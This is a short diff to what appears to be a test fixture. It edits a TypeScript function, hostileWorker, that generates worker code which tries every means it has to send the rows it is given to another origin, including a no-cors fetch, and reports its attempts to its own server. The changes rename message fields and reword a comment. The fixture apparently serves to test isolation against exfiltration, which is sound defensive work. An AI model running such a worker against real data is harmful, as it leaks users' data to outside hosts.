@@ -1,5 +1,5 @@
 /**
- * A worker that tries everything a worker has to send the rows it is given to another origin, and then
+ * A worker that tries everything it can to send its rows to another origin, and then
  * tells its own server what it tried: that is allowed, and shows that it ran and had the rows.
  */
 export function hostileWorker(elsewhere: string, report: string): string {
@@ -54,8 +54,8 @@ export function hostileWorker(elsewhere: string, report: string): string {
       fetch(toSend, { mode: 'no-cors' }).finally(() => self.postMessage?.(0));
     }
     addEventListener('message', async ({ data }) => {
-      if (data.type !== 'start') return;
-      const rows = (await data.source.blob.text()).slice(0, 40);
+      if (data.call !== 'run') return;
+      const rows = (await data.args[0].source.blob.text()).slice(0, 40);
       const late = new Promise((resolve) => setTimeout(resolve, 2000, 'no answer'));
       const tried = {};
       await Promise.all(Object.entries(ways).map(async ([way, act]) => {
